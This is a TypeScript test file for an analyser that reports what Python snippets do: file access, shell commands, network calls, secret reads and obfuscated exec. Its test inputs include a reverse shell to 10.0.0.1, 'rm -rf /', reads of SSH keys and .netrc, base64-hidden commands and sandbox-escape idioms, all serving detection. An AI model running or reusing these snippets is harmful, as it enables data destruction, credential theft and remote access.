import assert from 'node:assert/strict';
import test from 'node:test';
import { describeReading } from './testing/describe-reading.ts';

test('understands code that only computes and prints', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['import sys; print(sys.version_info[:2])', 'ok'],
    ['print(1 + 2)', 'ok'],
    ['import json, sys; print(json.load(sys.stdin)["name"])', 'ok'],
    ['import sys, json\nfor line in sys.stdin:\n    print(json.loads(line).get("id"))', 'ok'],
    ['print("\\n".join(sorted(set(["b", "a"]))))', 'ok'],
    ['x = [i * 2 for i in range(10) if i % 2]; print(sum(x))', 'ok'],
    ['def f(a, b=2):\n    return a + b\nprint(f(1))', 'ok'],
    ['import math; print(math.sqrt(2))', 'ok'],
    ['from datetime import datetime; print(datetime.now().isoformat())', 'ok'],
    ['import os; print(os.path.join(os.getcwd(), "a"))', 'ok'],
    ['import re; print(re.sub(r"a+", "b", "caat"))', 'ok'],
    ['import torch; print(torch.__version__)', 'ok'],
    ['import uuid; print(uuid.uuid4())', 'ok'],
    ['print(f"{1 + 1:>10}")', 'ok'],
    [
      'class A:\n    def __init__(self, x):\n        self.x = x\n    def twice(self):\n        return self.x * 2\nprint(A(2).twice())',
      'ok',
    ],
    ['import random, string; print("".join(random.choice(string.ascii_letters) for _ in range(8)))', 'ok'],
    ['import sys; print(open(sys.argv[1]).read())', 'ok'],
    ['import site; print(site.getsitepackages()[0])', 'ok'],
    ['import shutil; print(shutil.which("git"))', 'ok'],
    ['import urllib.parse; print(urllib.parse.quote("a b"))', 'ok'],
    ['import os; print(os.environ.get("HOME"))', 'ok'],
    ['x = """a\nb"""; print(x)', 'ok'],
    ['from os.path import (join, dirname)\nprint(join("a"))', 'ok'],
    ['print("ab".replace("a", "b"), f"{{a}} {1} }")', 'ok'],
    ['x = 1 + \\\n2', 'ok'],
    ['if x:', 'ok'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('python', code), expected, code);
});

test('notes files that are read, written and deleted', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['print(open("a.txt").read())', 'ok read=a.txt'],
    ["with open('/tmp/x', 'w') as f:\n    f.write('hi')", 'ok write=/tmp/x'],
    ["p = '/tmp/' + 'x'\nopen(p, mode='w', encoding='utf8').write('1')", 'ok write=/tmp/x'],
    ["import os; os.remove('/etc/passwd')", 'ok delete=/etc/passwd'],
    ['import shutil; shutil.rmtree("/tmp/demo")', 'ok delete-tree=/tmp/demo'],
    ['import shutil as s; s.copy("a", "b"); s.move("c", "d")', 'ok read=a write=b delete=c write=d'],
    ["from pathlib import Path; Path('x').write_text(Path('y').read_text())", 'ok read=y write=x'],
    ["import pathlib; pathlib.Path('a').unlink()", 'ok delete=a'],
    ['import os; os.makedirs("out/a", exist_ok=True); os.chmod("run.sh", 0o755)', 'ok write=out/a mode=run.sh'],
    [
      'import json; d = json.load(open("package.json")); d["v"] = 1; json.dump(d, open("package.json", "w"))',
      'ok read=package.json write=package.json',
    ],
    ['for name in ["a", "b"]: open(name, "w")', 'ok write=?'],
    ['p = "/tmp/x"; p, q = "/etc/passwd", 1; open(p, "w")', 'ok write=?'],
    ['open(*["/etc/passwd", "w"])', 'no read=?'],
    ['import os; os.chdir("/etc"); open("passwd", "w")', 'no enter=/etc write=passwd'],
    ['import os; print(os.environ["API_KEY"], os.getenv("GITHUB_TOKEN"))', 'ok secret=API_KEY secret=GITHUB_TOKEN'],
    ['import os; print(os.environ)', 'ok secret=?'],
    [
      "import bz2;i=open('/etc/passwd','rb');c=bz2.compress(i.read());o=open('/tmp/p.bz2','w+');o.write(str(c))",
      'no read=/etc/passwd read=/tmp/p.bz2 write=/tmp/p.bz2',
    ],
    ['from pathlib import Path; Path("a").replace("b")', 'ok delete=a write=b'],
    ['from pathlib import Path; Path("a").open("w")', 'ok write=a'],
    ['zf.read("a.txt")', 'ok read=a.txt'],
    ['open("\\x2fetc\\u0041", "w")', 'ok write=/etcA'],
    ['open(b"\\u0041", "w")', 'ok write=?'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('python', code), expected, code);
});

test('notes commands however they are run', () => {
  const cases: readonly (readonly [string, string])[] = [
    ["import os; os.system('rm -rf /')", 'ok shell=rm -rf /'],
    ['import os as o; o.system("ls")', 'ok shell=ls'],
    ['from os import system as s; s("id")', 'ok shell=id'],
    ['import subprocess; subprocess.run(["ls", "-l", "a b"], check=True)', "ok shell=ls -l 'a b'"],
    ['import subprocess; subprocess.check_output("git status", shell=True)', 'ok shell=git status'],
    ['import subprocess as sp, sys; sp.run([sys.executable, "-m", "pip"])', 'ok shell=?'],
    ['__import__("pty").spawn("/bin/bash")', 'ok shell=/bin/bash'],
    ["getattr(__import__('os'), 'sys' + 'tem')('id')", 'ok shell=id'],
    ['import os; getattr(os, "po" "pen")("id").read()', 'ok shell=id'],
    ['a=__import__;c=a("subprocess").call;c(["/bin/sh","-i"])', 'ok shell=/bin/sh -i'],
    ['import importlib; importlib.import_module("os").system("id")', 'ok shell=id'],
    ['import os; os.system("ls"\n" ; rm -rf /")', 'ok shell=ls ; rm -rf /'],
    ['import os; os.system(\n  "ls"\n  " -l"\n)', 'ok shell=ls -l'],
    ['import os; c = "ls", "-l"; os.system(c)', 'ok shell=?'],
    ['import os; os.system(chr(105) + chr(100))', 'ok shell=id'],
    ['import os; os.system(bytes.fromhex("6964").decode())', 'ok shell=id'],
    ['import os; os.execl("/bin/sh", "sh", "-c", "id")', 'no shell=/bin/sh -c id'],
    ['import subprocess; subprocess.run([])', 'ok shell=?'],
    ['import subprocess; subprocess.run(["git", "commit", "-m", ""])', "ok shell=git commit -m ''"],
    ['__import__("os").system("id")', 'ok shell=id'],
    ['import os; os.system("echo \\# ; rm -rf /")', 'ok shell=?'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('python', code), expected, code);
});

test('looks into code that the code makes', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['exec("import os; os.system(\'id\')")', 'ok shell=id'],
    ["import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='))", 'ok shell=id'],
    ['eval(compile("1+1", "a", "eval"))', 'no opaque=?'],
    ['eval("ev" + "al(\'1\')")', 'ok'],
    ['exec(open("x.py").read())', 'no read=x.py opaque=?'],
    ['exec(input())', 'no opaque=?'],
    ['import pickle; pickle.loads(b"x")', 'no opaque=?'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('python', code), expected, code);
});

test('notes the network', () => {
  const cases: readonly (readonly [string, string])[] = [
    [
      'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")',
      'no connect=10.0.0.1 shell=/bin/sh',
    ],
    ['import urllib.request as r; r.urlopen("http://a.example/x").read()', 'ok fetch=http://a.example/x'],
    [
      'import urllib.request as r; r.urlopen("http://a.example", open("k", "rb").read())',
      'ok read=k upload=http://a.example',
    ],
    ['import requests; print(requests.get("https://a.example/").text)', 'ok fetch=https://a.example/'],
    ['import requests; requests.post("https://a.example/", data="x")', 'ok upload=https://a.example/'],
    [
      'import http.server as s, socketserver as ss; ss.TCPServer(("", 1), s.SimpleHTTPRequestHandler).serve_forever()',
      'no connect=',
    ],
    ['x.get("http://a.example")', 'ok fetch=http://a.example'],
    ['x.get("a")', 'ok'],
    ['x.post("http://a.example")', 'no upload=http://a.example'],
    ['x.post("a")', 'no'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('python', code), expected, code);
});

test('does not understand what leads out of plain data', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['().__class__.__bases__[0].__subclasses__()', 'no'],
    ['import json; print(json.codecs.builtins.exec)', 'no'],
    ["import glob; glob.os.system('id')", 'no shell=id'],
    ["[__import__][0]('os')", 'no'],
    ['list(map(eval, ["1"]))', 'no'],
    ['import os; [os][0].system("id")', 'no shell=id'],
    ['import os; f = {"a": os.system}; f["a"]("id")', 'no'],
    ['import sys; sys.modules["os"].system("id")', 'no shell=id'],
    ['globals()["__builtins__"]', 'no'],
    ['from os import *', 'no'],
    ['import mymodule', 'no'],
    ['import os; os.environ["PATH"] = "/tmp"', 'no'],
    ['len = eval\nlen("1")', 'no'],
    ['import types; types.FunctionType(1, {})', 'no'],
    ['import os\nclass A: __getitem__ = os.system', 'no'],
    ['𝐞𝐱𝐞𝐜("1")', 'no'],
    ['import subprocess; subprocess.run(["ls"], env={"LD_PRELOAD": "x"})', 'no shell=ls'],
    ['import operator; list(map(operator.methodcaller("unlink"), [1]))', 'no'],
    ["o = open; o('/etc/x', 'w')", 'ok write=/etc/x'],
    ["class A: o = open\nA.o('/etc/passwd', 'w')", 'no'],
    ["def g(f=open): f('x', 'w')\ng()", 'no write=x'],
    ["f = lambda: open\nf()('x', 'w')", 'no'],
    ["import os; x = 1; print(f\"{x:'{os.system('id')}'}\")", 'no'],
    ['import os; print(f"{255:#x}"); os.system(\'id\')\nprint("}")', 'no'],
    ['from os import system as len; len("id")', 'no shell=id'],
    ['import json as j\ndef f(): j.system("id")\nimport os as j\nf()', 'no'],
    ['import argparse; argparse.FileType("w")("/etc/x")', 'no'],
    ['import fileinput; fileinput.input("a", inplace=True)', 'no read=a'],
    ['import os.path as p; p.os.system("id")', 'no shell=id'],
    ['open(file="/etc/x", mode="w")', 'ok write=/etc/x'],
    ['print("a', 'no'],
    ['import os; os.environ; import\n', 'no secret=?'],
    ['import os; print(os.a.b.c.d.e.f.g.h.i)', 'no'],
    ['import json; print(json._default_encoder)', 'no'],
    ['import os; print(os.environ.copy())', 'no'],
    ['from pathlib import Path; Path("~/.ssh/id_rsa").expanduser().read_text()', 'no read=~/.ssh/id_rsa'],
    ['import os; open(os.path.expanduser("~/.netrc"))', 'no read=~/.netrc'],
    ['class A:\n def open(self): pass\nopen("/etc/passwd", "w")', 'ok write=/etc/passwd'],
    ['__import__("os.path").system("id")', 'no opaque=? shell=id'],
    ['__import__(x)', 'no opaque=?'],
    ['getattr(os)', 'no'],
    ['import os; getattr(os, x)', 'no'],
    ['import subprocess; subprocess.run(args=["ls"])', 'no shell=ls'],
    ['import subprocess; subprocess.run("ls", -1)', 'no shell=ls'],
    ['5()', 'no'],
    ['[1]()', 'no'],
    ['a.(b)', 'no'],
    ['import platform; platform.popen("id")', 'ok shell=id'],
    ['import sys; sys.stdout.buffer.raw.__init__("/etc/passwd", "w"); print("x")', 'no'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('python', code), expected, code);
});

test('follows a constant through what only changes its form', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['import os; open(os.path.expanduser("x"))', 'ok read=x'],
    ['import os; open(os.path.join("a", "/etc/passwd"), "w")', 'ok write=/etc/passwd'],
    ['import os; open(os.path.join("a", "b"), "w")', 'ok write=a/b'],
    ['import os; open(os.path.join("a", b), "w")', 'ok write=?'],
    ['from pathlib import Path; Path("a", "/etc/passwd").write_text("x")', 'ok write=?'],
    ['open(" a ".strip(), "w")', 'ok write=a'],
    ['open(" a ".lstrip(), "w")', 'ok write=?'],
    ['open("x/etc/passwd".strip("x"), "w")', 'ok write=?'],
    ['import os; os.system(chr(0x69) + chr(100))', 'ok shell=id'],
    ['import os; os.system(chr(0o351))', 'ok shell=?'],
    ['import base64, os; os.system(base64.b64decode("aWQ=").decode())', 'ok shell=id'],
    ['import base64, os; os.system(base64.b64decode("aWQ=", "-_").decode())', 'ok shell=?'],
    ['import base64, os; os.system(base64.b64decode("aW-Q=").decode())', 'ok shell=?'],
    ['import base64, os; os.system(base64.urlsafe_b64decode("Pj4-").decode("utf-8"))', 'ok shell=>>>'],
    ['import os; os.system("".join(["i", "d"]))', 'ok shell=id'],
    ['import os; os.system("".join(["i", x]))', 'ok shell=?'],
    ['import os; os.system(x.join(["i"]))', 'ok shell=?'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('python', code), expected, code);
});

test('follows no constant that may be changed under any name', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['import subprocess; a = ["git", "status"]; subprocess.run(a)', 'ok shell=git status'],
    ['import subprocess; a = ["git", "status"]; b = a; b += ["x"]; subprocess.run(a)', 'ok shell=?'],
    ['import subprocess; a = ["git", "status"]; b = a; del b[0]; subprocess.run(a)', 'ok shell=?'],
    ["p='/tmp/x'; exec(\"p='/etc/passwd'\"); open(p,'w')", 'no write=/tmp/x'],
    ['p=\'/tmp/x\'; p += "/../../etc/passwd"; open(p,"w")', 'ok write=?'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('python', code), expected, code);
});
